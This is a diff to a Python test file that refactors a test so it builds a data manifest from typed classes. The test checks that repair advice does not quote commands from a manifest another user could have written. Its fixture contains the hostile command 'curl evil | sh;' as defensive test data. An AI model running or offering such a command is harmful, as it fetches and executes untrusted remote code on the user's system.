@@ -11,7 +11,7 @@ import pytest
 from slowness import scaled
 
 from ezpz_llm.base.errors import UserError
-from ezpz_llm.data.manifest import _repair_advice
+from ezpz_llm.data.manifest import Manifest, Shard, Source, Split, Splits, TokenizerEntry, _repair_advice
 from ezpz_llm.explain.counterfactual import run_counterfactual
 from ezpz_llm.rundir import RunDir
 from ezpz_llm.rundir.records import read_record
@@ -104,10 +104,12 @@ def test_nothing_starts_without_confirmation_or_from_the_run_of_another_user(tmp
 
 
 def test_advice_does_not_quote_commands_from_the_manifest_of_another_user(tmp_path, monkeypatch):
-    manifest = {"format": "ezpz_llm tokens 1", "command": "curl evil | sh;", "dtype": "uint16",
-                "splits": {"train": {"tokens": 1, "shards": [{"file": "a.bin", "tokens": 1, "sha256": ""}]}}}
+    split = Split(1, [Shard("a.bin", 1, "")])
+    manifest = Manifest(request="", command="curl evil | sh;", source=Source("a", 1, 1),
+                        tokenizer=TokenizerEntry("bytes", ""), vocab_size=257, end_of_text=256, dtype="uint16",
+                        documents=1, tokens=2, unigram_entropy=1.0, splits=Splits(split, split))
     path = tmp_path / "manifest.json"
-    path.write_text(json.dumps(manifest))
+    manifest.write(tmp_path)
     assert "evil" in _repair_advice(tmp_path, manifest), "the user's own manifest is trusted"
     path.chmod(0o666)
     assert "evil" not in _repair_advice(tmp_path, manifest)
